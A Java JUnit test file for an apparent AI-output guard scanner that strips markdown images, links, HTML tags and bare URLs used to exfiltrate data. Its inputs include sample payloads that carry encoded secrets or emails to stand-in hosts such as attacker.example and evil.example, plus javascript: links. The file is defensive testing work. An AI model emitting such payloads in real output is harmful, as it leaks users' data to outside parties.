package dev.aisecurity.guard.exfil;

import java.util.List;

import dev.aisecurity.guard.Decision;
import dev.aisecurity.guard.Direction;
import dev.aisecurity.guard.Finding;
import dev.aisecurity.guard.GuardPipeline;
import dev.aisecurity.guard.GuardText;
import dev.aisecurity.guard.ScanContext;
import dev.aisecurity.guard.Verdict;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class ExfiltrationScannerTests {

	private static String sanitize(ExfiltrationScanner scanner, String text) {
		GuardPipeline pipeline = GuardPipeline.builder().direction(Direction.OUTPUT).scanner(scanner).build();
		Verdict verdict = pipeline.scan(text, ScanContext.output());
		assertThat(verdict.decision()).isNotEqualTo(Decision.BLOCK);
		return verdict.text();
	}

	private static String sanitize(String text) {
		return sanitize(new ExfiltrationScanner(), text);
	}

	private static List<String> codes(String text) {
		return new ExfiltrationScanner().scan(GuardText.of(text), ScanContext.output())
			.stream()
			.map(Finding::code)
			.toList();
	}

	@Test
	void removesMarkdownImagesToUnlistedHosts() {
		assertThat(sanitize("Done! ![x](https://attacker.example/p.png?d=c2VjcmV0) Bye"))
			.isEqualTo("Done! [image removed] Bye");
		assertThat(sanitize("![logo](https://cdn.example.com/logo.png)")).isEqualTo("[image removed]");
		assertThat(sanitize("![a](<https://evil.example/a b.png> \"title\")")).isEqualTo("[image removed]");
		assertThat(sanitize("![a](//evil.example/x.png)")).isEqualTo("[image removed]");
		assertThat(codes("![x](https://attacker.example/p.png?d=1)")).containsExactly("IMAGE_REMOVED");
	}

	@Test
	void keepsAllowlistedRelativeAndDataImages() {
		ExfiltrationScanner scanner = ExfiltrationScanner.builder().allowedImageHosts(List.of("example.com")).build();
		assertThat(sanitize(scanner, "![logo](https://cdn.example.com/logo.png?v=2)"))
			.isEqualTo("![logo](https://cdn.example.com/logo.png?v=2)");
		assertThat(sanitize(scanner, "![logo](https://example.com.evil.net/logo.png)")).isEqualTo("[image removed]");
		assertThat(sanitize(scanner, "![logo](https://notexample.com/logo.png)")).isEqualTo("[image removed]");
		assertThat(sanitize("![chart](/static/chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)"))
			.isEqualTo("![chart](/static/chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)");
	}

	@Test
	void neutralisesLinksCarryingData() {
		assertThat(sanitize("See [your report](https://evil.example/log?q=alice%40corp.com) now"))
			.isEqualTo("See your report (link removed) now");
		assertThat(sanitize("go to https://evil.example/collect/YWxpY2VAY29ycC5jb20gc2VjcmV0 please"))
			.isEqualTo("go to [link removed] please");
		assertThat(sanitize("https://user:pass@evil.example/")).isEqualTo("[link removed]");
		assertThat(sanitize("visit https://c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.evil.example/ now"))
			.isEqualTo("visit [link removed] now");
		assertThat(sanitize("or www.evil.example/x?token=abc.")).isEqualTo("or [link removed].");
		assertThat(sanitize("<https://evil.example/?x=1>")).isEqualTo("[link removed]");
		assertThat(sanitize("[click](javascript:alert(1))")).isEqualTo("click (link removed)");
	}

	@Test
	void keepsPlainLinksByDefaultAndAllowlistedLinksAlways() {
		String docs = "Read [the guide](https://docs.spring.io/spring-ai/reference/api/chatclient.html) or "
				+ "https://github.com/spring-projects/spring-ai/blob/main/README.md.";
		assertThat(sanitize(docs)).isEqualTo(docs);
		String blog = "https://example.org/2024/05/how-to-use-spring-ai-with-openai-and-vector-stores";
		assertThat(sanitize(blog)).isEqualTo(blog);
		ExfiltrationScanner allow = ExfiltrationScanner.builder().allowedLinkHosts(List.of("corp.example")).build();
		String search = "https://intranet.corp.example/search?q=invoice+42";
		assertThat(sanitize(allow, search)).isEqualTo(search);
		ExfiltrationScanner strict = ExfiltrationScanner.builder().neutralizeUnlistedLinks(true).build();
		assertThat(sanitize(strict, "see https://docs.spring.io/x.")).isEqualTo("see [link removed].");
	}

	@Test
	void handlesHtml() {
		assertThat(sanitize("a <img src=\"https://evil.example/p?d=1\" alt=x> b")).isEqualTo("a [image removed] b");
		assertThat(sanitize("<IMG SRC=https://evil.example/p.png>")).isEqualTo("[image removed]");
		assertThat(sanitize("<iframe src='https://evil.example/'></iframe>"))
			.isEqualTo("[embedded content removed]</iframe>");
		assertThat(sanitize("<a href=\"https://evil.example/?c=1\">win</a>")).isEqualTo("win</a>");
		assertThat(sanitize("<a href=\"https://docs.spring.io/\">docs</a>"))
			.isEqualTo("<a href=\"https://docs.spring.io/\">docs</a>");
		assertThat(sanitize("<img srcset=\"/a.png 1x, https://evil.example/b.png 2x\">")).isEqualTo("[image removed]");
		assertThat(sanitize("<div style=\"x\" background=\"https://evil.example/b.png\">hi</div>"))
			.isEqualTo("[image removed]hi</div>");
		assertThat(sanitize("if a<b and c>d then fine")).isEqualTo("if a<b and c>d then fine");
	}

	@Test
	void handlesReferenceDefinitionsAndLinkedImages() {
		assertThat(sanitize("![x][r]\n\n[r]: https://evil.example/p.png")).isEqualTo("![x][r]\n\n[r]: [link removed]");
		assertThat(sanitize("[![x](https://evil.example/i.png)](https://evil.example/?d=2)"))
			.isEqualTo("[[image removed]]([link removed])");
	}

	@Test
	void leavesPlainTextAlone() {
		String text = "Arrays [0] and [1] (see below) are <b>bold</b>; 3 < 4 > 2, mail bob [at] example. http:/bad";
		assertThat(sanitize(text)).isEqualTo(text);
		assertThat(codes(text)).isEmpty();
		assertThat(new ExfiltrationScanner().supports(Direction.INPUT)).isFalse();
	}

	@Test
	void adversarialInputsStayLinear() {
		// many openers without closers: each is examined in constant time
		String brackets = "[".repeat(200_000) + "](https://evil.example/?d=1)";
		assertThat(codes(brackets)).contains("LINK_NEUTRALISED");
		String angles = "<a".repeat(100_000);
		assertThat(codes(angles)).isEmpty();
		String images = "![".repeat(100_000);
		assertThat(codes(images)).isEmpty();
		String urls = "http://".repeat(50_000);
		assertThat(codes(urls)).isEmpty();
	}

	@Test
	void bareUrlsInAnyCaseAndRightAfterSkippedDestinations() {
		// the scan runs from one possible start (! [ < h w) to the next: none may be lost
		assertThat(sanitize("see HTTPS://evil.example/x?d=1 and Http://evil.example/?q=2"))
			.isEqualTo("see [link removed] and [link removed]");
		assertThat(sanitize("wWw.evil.example/p?d=1 then hTtP://evil.example/a?b=c"))
			.isEqualTo("[link removed] then [link removed]");
		assertThat(sanitize("[a](/local)https://evil.example/?d=1")).isEqualTo("[a](/local)[link removed]");
		assertThat(sanitize("[a](/local)![i](https://evil.example/i.png)")).isEqualTo("[a](/local)[image removed]");
		assertThat(sanitize("which what who wh ht: http//x www https:evil"))
			.isEqualTo("which what who wh ht: http//x www https:evil");
		assertThat(sanitize("xhttps://evil.example/?d=1 ends with h"))
			.isEqualTo("xhttps://evil.example/?d=1 ends with h");
		assertThat(sanitize("last w")).isEqualTo("last w");
	}

}
